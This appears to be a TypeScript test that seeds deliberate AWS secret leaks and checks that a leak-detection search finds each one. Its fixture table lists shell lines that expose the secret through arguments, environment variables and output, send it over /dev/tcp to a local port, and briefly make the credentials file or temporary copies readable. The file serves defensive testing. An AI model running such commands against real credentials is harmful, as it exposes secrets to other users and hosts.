import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { CloudWorld } from '../support/cloud-world.ts'
import { leaks } from './canary-search.ts'
import type { Figure } from './figure.ts'
import { type Canary, filesBelow } from './traced-files.ts'
import { tracedShell } from './traced-shell.ts'

/** What a careless program does; each must be found, and be found as what it is. `$S` is a secret, `$F` the credentials file. */
const LEAKS: Readonly<Record<string, string>> = {
  argv: '/bin/true --token "$S"',
  environment: 'TOKEN="$S" /bin/true',
  said: 'echo "token is $S"',
  sent: 'exec 5>"/dev/tcp/127.0.0.1/$P"; printf %s "$S" >&5; exec 5>&-',
  'wide: a file that is narrowed a moment later':
    'printf %s "$S" >"$HOME/.aws/new"; chmod 600 "$HOME/.aws/new"; rm "$HOME/.aws/new"',
  'wide: the right file, for a moment': 'chmod 644 "$F"; chmod 600 "$F"',
  'unnamed: a temp file of any name': 'umask 077; printf %s "$S" >"$F.x7f3"; mv "$F.x7f3" "$F"; umask 022',
}

/** The same search over commands that leak on purpose, beside a lease that lives. */
export async function seededLeaks(world: CloudWorld): Promise<Figure> {
  const alice = world.person('alice')
  for (const step of [
    () => alice.logIn(),
    () => alice.jit('elevate', 'only-aws', '--for', '30m', '--reason', 'canary'),
  ]) {
    const { code, stderr } = await step()
    if (code !== 0) throw new Error(stderr)
  }
  const [, secret = ''] = /aws_secret_access_key\s*=\s*(\S+)/.exec(alice.credentials() ?? '') ?? []
  const canaries: readonly Canary[] = [{ name: 'AWS secret key', text: secret }]
  const file = join(alice.home, '.secret.sh')
  const missed: string[] = []
  const port = new URL(world.endpoint.url).port
  for (const [kind, line] of Object.entries(LEAKS)) {
    const before = filesBelow(alice.home)
    const shell = tracedShell(join(world.directory, `leak-${kind.replaceAll(/\W+/g, '-')}`), { ...alice.env })
    writeFileSync(file, `S='${secret}'; P=${port}; F="$HOME/.aws/credentials"\n`, { mode: 0o600 })
    await shell.run(`. "$HOME/.secret.sh"; ${line}`)
    const calls = await shell.close()
    const [wanted = ''] = kind.split(':')
    const found = leaks({ calls, canaries, home: alice.home, before, moments: [] })
    if (!found.some((each) => each.startsWith(`${wanted}:`))) missed.push(`${kind}: found ${JSON.stringify(found)}`)
  }
  await alice.jit('revoke', '--all')
  const count = Object.keys(LEAKS).length
  return { row: 'R9', what: 'seeded leaks that this search must find', count, least: count, found: missed }
}
